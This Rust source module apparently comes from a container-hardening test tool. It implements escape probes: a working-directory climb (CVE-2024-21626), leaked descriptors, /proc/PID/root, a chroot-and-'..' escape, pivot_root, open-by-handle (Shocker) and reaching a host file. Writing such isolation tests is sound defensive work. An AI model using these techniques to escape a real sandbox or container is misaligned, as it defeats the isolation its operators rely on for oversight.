//! Ways out of the root: through the working directory, open descriptors, other roots and file handles.

use std::fs::{self, File, Metadata};
use std::io;
use std::os::fd::AsFd as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use rustix::io::Errno;
use rustix::process::chroot;
use sys::attempt::open_inode_two;

use crate::outcome::{Attack, Class, Options, Outcome, errno_name, error_name, stopped_by};
use crate::report::mounts;
use crate::report::surroundings::{descriptors, processes};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "cwd-escape",
        class: Class::Descriptors,
        tries: "climb from the working directory to another root (CVE-2024-21626)",
        run: |_| climb(Path::new("/proc/self/cwd")),
    },
    Attack {
        name: "leaked-fds",
        class: Class::Descriptors,
        tries: "find descriptors that the runtime left open",
        run: leaked,
    },
    Attack {
        name: "proc-1-root",
        class: Class::Paths,
        tries: "look into another root through /proc/PID/root",
        run: other_roots,
    },
    Attack { name: "chroot", class: Class::Paths, tries: "change the root", run: change_root },
    Attack {
        name: "chroot-escape",
        class: Class::Paths,
        tries: "leave the root with chroot and `..`",
        run: chroot_escape,
    },
    Attack {
        name: "pivot-root",
        class: Class::Paths,
        tries: "swap the root for another mount",
        // The root over itself: EINVAL comes after the privilege check, and changes nothing.
        run: |_| {
            let result = rustix::process::pivot_root("/proc/self/fd", "/proc/self/fd");
            Outcome::of_reached(result, &[Errno::INVAL, Errno::BUSY], "pivot_root is allowed")
        },
    },
    Attack {
        name: "open-by-handle",
        class: Class::Paths,
        tries: "open a directory of the host by its inode (Shocker)",
        run: by_handle,
    },
    Attack {
        name: "host-files",
        class: Class::Paths,
        tries: "reach the file of --marker by every way out",
        run: marker,
    },
];

/// Device and inode: what a directory is, whatever it is called.
type Identity = (u64, u64);

fn identity(path: &Path) -> io::Result<Identity> {
    fs::metadata(path).map(|metadata: Metadata| (metadata.dev(), metadata.ino()))
}

/// The topmost directory above `start`, by `..` until nothing changes.
fn top_of(start: &Path) -> io::Result<(PathBuf, Identity)> {
    let (mut path, mut here) = (start.to_owned(), identity(start)?);
    // PATH_MAX bounds how deep a directory can be.
    for _ in 0..2048 {
        let above = path.join("..");
        let there = identity(&above)?;
        if there == here {
            break;
        }
        (path, here) = (above, there);
    }
    Ok((path, here))
}

fn climb(start: &Path) -> Outcome {
    let climbed = top_of(start).and_then(|(path, top)| Ok((path, top == identity(Path::new("/"))?)));
    match climbed {
        Ok((_, true)) => Outcome::stopped("it leads to the container's own root"),
        Ok((path, false)) => Outcome::succeeded(format!("another root at {}", path.display())),
        Err(error) => stopped_by(&error),
    }
}

fn leaked(_: &Options) -> Outcome {
    let open = descriptors();
    if open.is_empty() {
        return Outcome::not_applicable("/proc/self/fd cannot be read");
    }
    let leaked = open.iter().filter(|(number, _)| **number > 2);
    let names: Vec<_> = leaked.map(|(number, target)| format!("{number} ({target})")).collect();
    if names.is_empty() { Outcome::stopped("0, 1 and 2 only") } else { Outcome::succeeded(names.join(", ")) }
}

fn other_roots(_: &Options) -> Outcome {
    let roots = processes().into_iter().map(|process| PathBuf::from(format!("/proc/{}/root", process.pid)));
    let Ok(own) = identity(Path::new("/")) else { return Outcome::not_applicable("no root") };
    Outcome::worst(roots.map(|root| match identity(&root) {
        Ok(other) if other == own => Outcome::stopped("every root that shows is the container's own"),
        Ok(_) => Outcome::succeeded(format!("{} is another root", root.display())),
        Err(error) => stopped_by(&error),
    }))
}

fn change_root(_: &Options) -> Outcome {
    Outcome::of(chroot("/proc"), "changed the root to /proc")
}

/// A root below the working directory holds nobody back: `..` passes it by.
fn chroot_escape(_: &Options) -> Outcome {
    let before = identity(Path::new("/"));
    if let Err(errno) = chroot("/proc") {
        return Outcome::stopped(errno_name(errno));
    }
    let outside = top_of(Path::new("."));
    match (before, outside) {
        (Ok(before), Ok((_, top))) if before == top => {
            Outcome::stopped("`..` ends at the container's own root")
        }
        (Ok(_), Ok((path, _))) => Outcome::succeeded(format!("another root at {}", path.display())),
        (Err(error), _) | (_, Err(error)) => stopped_by(&error),
    }
}

/// Every filesystem that the container sees a piece of, among them the host's if anything is bound in.
fn by_handle(_: &Options) -> Outcome {
    let mounts = mounts::read().unwrap_or_default();
    let paths = mounts.iter().map(|mount| mount.path.as_str());
    Outcome::worst(std::iter::once("/").chain(paths).map(|path| {
        let opened = File::open(path).map_err(|error| Errno::from_io_error(&error).unwrap_or(Errno::IO));
        let found = opened.and_then(|mount| open_inode_two(mount.as_fd()));
        Outcome::of_reached(found, &[Errno::STALE], &format!("file handles open on the filesystem of {path}"))
    }))
}

fn marker(options: &Options) -> Outcome {
    let Some(marker) = &options.marker else {
        return Outcome::not_applicable("name a file of the host with --marker");
    };
    let below = marker.strip_prefix("/").unwrap_or(marker);
    let processes =
        processes().into_iter().map(|process| PathBuf::from(format!("/proc/{}/root", process.pid)));
    let directories = ["/proc/self/cwd", "/proc/1/cwd"].map(PathBuf::from).into_iter();
    let open = descriptors().into_keys().map(|number| PathBuf::from(format!("/proc/self/fd/{number}")));
    let tops = directories.chain(open).filter_map(|start| top_of(&start).ok()).map(|(top, _)| top);
    let roots = std::iter::once(PathBuf::from("/")).chain(processes).chain(tops);
    Outcome::worst(roots.map(|root| match File::open(root.join(below)) {
        Ok(_) => Outcome::succeeded(format!("opened it below {}", root.display())),
        Err(error) => Outcome::stopped(error_name(&error)),
    }))
}
